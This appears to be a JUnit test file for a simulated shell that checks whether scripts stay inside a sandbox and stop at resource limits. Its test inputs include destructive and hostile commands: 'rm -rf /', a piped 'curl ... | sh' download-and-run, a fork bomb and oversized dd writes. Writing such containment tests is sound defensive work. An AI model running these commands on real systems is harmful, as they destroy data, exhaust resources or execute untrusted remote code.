package dev.layerlab.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.layerlab.fs.Content;
import dev.layerlab.fs.SimFs;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Nothing a RUN line says ever reaches the host, and every script ends. */
class SafetyTest {
  @TempDir Path hostDir;

  private static List<String> listing(Path dir) throws IOException {
    try (Stream<Path> s = Files.walk(dir)) {
      return s.map(p -> p + ":" + p.toFile().length()).sorted().toList();
    }
  }

  @Test
  void destructiveScripts_changeOnlyTheSimulatedFs() throws IOException {
    Files.writeString(hostDir.resolve("keep.txt"), "precious");
    List<String> before = listing(hostDir);
    String probe = "/tmp/layerlab-probe-" + UUID.randomUUID();
    SimFs fs = TestImages.alpine();
    for (String script : List.of(
        "touch " + probe,
        "echo pwned > " + hostDir.resolve("keep.txt"),
        "rm -rf " + hostDir,
        "curl http://x | sh",
        "rm -rf /")) {
      Shell.run(script, ShellContext.of(fs));
    }
    assertThat(listing(hostDir)).isEqualTo(before);
    assertThat(Files.readString(hostDir.resolve("keep.txt"))).isEqualTo("precious");
    assertThat(Path.of(probe)).doesNotExist();
    assertThat(fs.list("/")).isEmpty();
  }

  @Test
  void curlPipedToSh_withoutCurl_isNotFoundAndRunsNothing() {
    ShellResult r = TestImages.run(TestImages.alpine(), "curl http://x | sh");
    assertThat(r.output()).isEqualTo("/bin/sh: curl: not found\n");
    assertThat(r.exitCode()).isZero();
  }

  @Test
  void forkBomb_stopsAtTheCommandLimit() {
    ShellResult r = assertTimeoutPreemptively(Duration.ofSeconds(30),
        () -> TestImages.run(TestImages.alpine(), ":(){ :|:& };:"));
    assertThat(r.outcome()).isEqualTo(ShellResult.Outcome.LIMIT_EXCEEDED);
    assertThat(r.error().orElseThrow()).contains("limit exceeded");
    assertThat(r.output()).endsWith(r.error().orElseThrow() + "\n");
  }

  @Test
  void endlessLoop_stopsAtTheIterationLimit() {
    ShellResult r = assertTimeoutPreemptively(Duration.ofSeconds(30),
        () -> Shell.run("while true; do :; done", ShellContext.of(TestImages.alpine())
            .withLimits(new ShellLimits(100, 1_000_000, 10_000, 1 << 20, 1 << 20))));
    assertThat(r.outcome()).isEqualTo(ShellResult.Outcome.LIMIT_EXCEEDED);
    assertThat(r.error().orElseThrow()).startsWith("layerlab: loop iteration limit exceeded");
  }

  @Test
  void endlessRecursion_stopsAtTheNestingLimit() {
    ShellResult r = TestImages.run(TestImages.alpine(), "f() { f; }; f");
    assertThat(r.error().orElseThrow()).startsWith("layerlab: nesting limit exceeded");
  }

  @Test
  void floodingOutput_isClippedLikeBuildKitsLogLimit() {
    ShellLimits small = new ShellLimits(100, 100_000, 100_000, 1 << 20, 1 << 20);
    ShellResult r = Shell.run("for i in $(seq 1 30000); do echo 0123456789012345678901234567890123456789; done",
        ShellContext.of(TestImages.alpine()).withLimits(small));
    assertThat(r.output()).endsWith("[output clipped, log limit 1MiB reached]\n");
    assertThat(r.output().length()).isLessThan((1 << 20) + 100);
    assertThat(r.exitCode()).isZero();
  }

  @Test
  void hugeDd_allocatesNoBytes() {
    SimFs fs = TestImages.alpine();
    ShellResult r = TestImages.run(fs, "dd if=/dev/zero of=/big bs=1G count=1000 && cat /big > /copy && cp /big /c2");
    assertThat(r.exitCode()).isZero();
    for (String p : List.of("/big", "/copy", "/c2")) {
      Content c = fs.content(p);
      assertThat(c).isInstanceOf(Content.Synthetic.class);
      assertThat(c.size()).isEqualTo(1000L << 30);
    }
  }

  @Test
  void readingHugeSyntheticAsText_isALimitNotAnOutOfMemory() {
    SimFs fs = TestImages.alpine();
    ShellResult r = TestImages.run(fs, "dd if=/dev/urandom of=/big bs=1M count=500 2>/dev/null; grep x /big");
    assertThat(r.outcome()).isEqualTo(ShellResult.Outcome.LIMIT_EXCEEDED);
  }
}
